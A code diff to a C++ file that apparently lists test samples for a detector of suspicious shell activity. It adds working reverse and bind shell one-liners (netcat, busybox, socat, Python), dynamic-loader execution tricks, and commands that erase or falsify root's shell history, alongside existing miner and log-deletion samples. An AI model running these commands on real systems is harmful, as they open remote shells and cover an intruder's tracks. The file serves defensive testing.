@@ -63,6 +63,33 @@ const std::vector<Form>& shell_forms() {
        "rm -f /tmp/q4;mkfifo /tmp/q4;nc.traditional 127.0.0.1 PORT </tmp/q4 | script -qc sh "
        "/dev/null "
        ">/tmp/q4"},
+      {"busybox's netcat and a FIFO", "reverse_shell relayed_shell",
+       "mkfifo /tmp/q5; sh </tmp/q5 | busybox nc 127.0.0.1 PORT >/tmp/q5"},
+      {"busybox alone, behind cat", "reverse_shell relayed_shell",
+       "mkfifo /tmp/q6; busybox sh -c 'cat /tmp/q6 | busybox sh -i 2>&1 | busybox nc 127.0.0.1 "
+       "PORT "
+       ">/tmp/q6'"},
+      {"netcat between two FIFOs", "reverse_shell relayed_shell",
+       "mkfifo /tmp/q7 /tmp/q8; sh </tmp/q7 >/tmp/q8 2>&1 & nc.traditional 127.0.0.1 PORT >/tmp/q7 "
+       "</tmp/q8"},
+      {"netcat hands out a shell", "bind_shell",
+       "nc.traditional -l -p 4951 -e /bin/sh & echo exit | socat - "
+       "TCP:127.0.0.1:4951,retry=99,interval=0.05"},
+      {"socat hands out a shell", "bind_shell",
+       "socat TCP-LISTEN:4952,bind=127.0.0.1 EXEC:sh,nofork & echo exit | socat - "
+       "TCP:127.0.0.1:4952,retry=99,interval=0.05"},
+      {"busybox hands out a shell", "bind_shell",
+       "busybox nc -l -p 4953 -e /bin/sh & echo exit | socat - "
+       "TCP:127.0.0.1:4953,retry=99,interval=0.05"},
+      {"python hands out a renamed shell", "bind_shell",
+       "cp /bin/sh /tmp/kdevd; python3 -c \"import socket,subprocess\n"
+       "l=socket.create_server(('127.0.0.1',4954))\n"
+       "c=socket.create_connection(('127.0.0.1',4954))\ns=l.accept()[0]\nc.sendall(b'exit\\n')\n"
+       "subprocess.call(['/tmp/kdevd'],stdin=s,stdout=s,stderr=s)\""},
+      {"netcat and a FIFO that wait for somebody", "bind_shell",
+       "mkfifo /tmp/q9; sh </tmp/q9 2>&1 | nc.traditional -l -p 4955 >/tmp/q9 & echo exit | socat "
+       "- "
+       "TCP:127.0.0.1:4955,retry=99,interval=0.05"},
       {"pings that carry", "raw_socket",
        "python3 -c \"import socket;socket.socket(socket.AF_INET,socket.SOCK_RAW,1)\""},
       {"a port handed out", "reverse_tunnel",
@@ -103,6 +130,10 @@ const std::vector<Form>& script_forms() {
       {"decoded to a file", "foreign_program",
        "base64 /bin/true >/tmp/w2.b64; base64 -d /tmp/w2.b64 >/tmp/w2; chmod +x /tmp/w2; /tmp/w2"},
       {"handed to the loader", "loader_exec", "/lib64/ld-linux-x86-64.so.2 /bin/true"},
+      {"a copy of the loader", "loader_exec",
+       "cp /lib64/ld-linux-x86-64.so.2 /tmp/notes; /tmp/notes /bin/true"},
+      {"a second name of the loader", "loader_exec",
+       "ln $(readlink -f /lib64/ld-linux-x86-64.so.2) /tmp/l1; /tmp/l1 --argv0 git /bin/true"},
       {"a pool's address", "miner_arguments",
        "cp /bin/true /tmp/updater; /tmp/updater -o stratum+tcp://pool.example.org:3333 -u x"},
       {"huge pages", "miner_preparation",
@@ -111,6 +142,12 @@ const std::vector<Form>& script_forms() {
        "printf '{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4A\",\"agent\":\"x\"}}\\n' "
        "| "
        "busybox nc 127.0.0.1 PORT"},
+      {"a history emptied by a script", "evasion",
+       "touch /root/.bash_history; bash -c ': >/root/.bash_history'"},
+      {"a history that leads nowhere", "evasion",
+       "touch /root/.bash_history; ln -sf /dev/null /root/.bash_history"},
+      {"a line less in a history", "evasion",
+       "echo curl >/root/.zsh_history; sed -i /curl/d /root/.zsh_history"},
       {"a log is taken away", "evasion", "touch /var/log/wtmp; rm /var/log/wtmp"},
   };
   return all;
